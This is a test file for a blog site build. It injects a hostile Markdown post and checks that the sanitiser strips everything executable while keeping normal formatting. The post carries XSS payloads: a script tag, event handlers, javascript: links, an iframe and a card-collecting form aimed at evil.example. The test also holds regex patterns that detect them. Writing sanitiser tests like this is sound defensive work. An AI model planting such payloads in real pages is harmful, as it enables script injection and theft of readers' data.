/**
 * A blog post written to attack the site goes through the real build and the generated page is
 * read back: nothing executable survives, ordinary Markdown formatting does.
 */
import fs from 'fs'
import path from 'path'
import { listFiles } from '@src/lib/build/list-files'
import type { BuildPart } from './site'

const SLUG = 'hostile-post-check'
/** An image in the body, written as the CMS writes it; the build must serve it resized from /static/. */
const BODY_IMAGE = '/images/tax-savings.jpg'

const HOSTILE_POST = `---
slug: "${SLUG}"
title: "A Post That Tries Everything"
date: "2025-01-02"
excerpt: "Raw HTML in Markdown that must not reach readers as code."
image: "/images/tax-savings.jpg"
image_alt: "Abstract shapes"
category: "Security"
author: "Meridian Gulf Advisory"
comments: 0
facts:
  - value: "0"
    label: "Scripts that should survive"
  - value: "0"
    label: "Handlers that should survive"
tags:
  - "Security"
---

Intro with **bold**, *emphasis* and a [safe link](https://www.example.com/guide).

<script>window.HOSTILE_SCRIPT = 1</script>

<img src="${BODY_IMAGE}" alt="Chart" onerror="window.HOSTILE_ONERROR = 1">

<a href="javascript:window.HOSTILE_HREF=1">raw link</a> and [markdown link](javascript:window.HOSTILE_MDLINK=1)

<iframe src="https://evil.example/HOSTILE_IFRAME"></iframe>

<style>body { display: none } /* HOSTILE_STYLE */</style>

<p onclick="window.HOSTILE_ONCLICK=1" style="position:fixed">A styled paragraph</p>

<svg onload="window.HOSTILE_SVG=1"><circle r="4"></circle></svg>

<form action="https://evil.example/HOSTILE_FORM"><input name="card"></form>

## A heading

- first item
- second item

| Plan | Price |
|------|-------|
| Basic | 19.99 |

> A quoted line

![An image](${BODY_IMAGE})
`

export const hostilePost: BuildPart = {
  prepare(root) {
    fs.writeFileSync(path.join(root, 'content/blog', `${SLUG}.en.md`), HOSTILE_POST)
  },

  tests(site) {
    describe('a hostile blog post', () => {
      let html: string
      let prose: string
      let pageData: string

      beforeAll(() => {
        const { publicDir } = site()
        html = fs.readFileSync(path.join(publicDir, 'financialblogs/blogs', SLUG, 'index.html'), 'utf8')
        pageData = fs.readFileSync(path.join(publicDir, 'page-data/financialblogs/blogs', SLUG, 'page-data.json'), 'utf8')
        // The body begins with the post's first paragraph; the sanitiser allows no <div>, so it ends at the first closing div.
        const match = /<div class="[^"]*">(<p>Intro with[\s\S]*?)<\/div>/.exec(html)
        if (!match) throw new Error('The post page has no article body')
        prose = match[1]
      })

      it('keeps no trace of scripts, handlers, javascript: links, frames, styles or forms', () => {
        for (const text of [html, pageData]) expect(text).not.toMatch(/HOSTILE_/)
        expect(prose).not.toMatch(/<(script|iframe|style|svg|form|input|object)\b/i)
        expect(prose).not.toMatch(/\son[a-z]+\s*=/i)
        expect(prose).not.toMatch(/javascript:/i)
        expect(prose).not.toMatch(/\sstyle\s*=/i)
      })

      it('keeps ordinary Markdown formatting', () => {
        expect(prose).toContain('<strong>bold</strong>')
        expect(prose).toContain('<em>emphasis</em>')
        expect(prose).toContain('<a href="https://www.example.com/guide">safe link</a>')
        expect(prose).toMatch(/<h2[^>]*>A heading<\/h2>/)
        expect(prose).toMatch(/<ul>\s*<li>first item<\/li>\s*<li>second item<\/li>\s*<\/ul>/)
        expect(prose).toMatch(/<table>[\s\S]*<th[^>]*>Plan<\/th>[\s\S]*<td[^>]*>19\.99<\/td>[\s\S]*<\/table>/)
        expect(prose).toMatch(/<blockquote>\s*<p>A quoted line<\/p>\s*<\/blockquote>/)
        expect(prose).toMatch(/<picture><source type="image\/avif" srcset="\/static\/[^"]+" sizes="[^"]+" \/>/)
        expect(prose).toMatch(
          /<img src="\/static\/[^"]+\.webp" srcset="[^"]+" sizes="[^"]+" width="\d+" height="\d+" alt="An image" loading="lazy" decoding="async" \/><\/picture>/,
        )
        expect(prose).not.toContain(`src="${BODY_IMAGE}"`)
        expect(prose).toContain('<p>A styled paragraph</p>')
      })

      it('leaves no trace on the pages that list it either (indexes, its tag, related reading)', () => {
        const pages = listFiles(site().publicDir).filter((file) => /\.(html|json|xml)$/.test(file))
        expect(pages.filter((file) => fs.readFileSync(file, 'utf8').includes(`/${SLUG}`)).length).toBeGreaterThan(2)
        expect(pages.filter((file) => /HOSTILE_/.test(fs.readFileSync(file, 'utf8')))).toEqual([])
      })
    })
  },
}
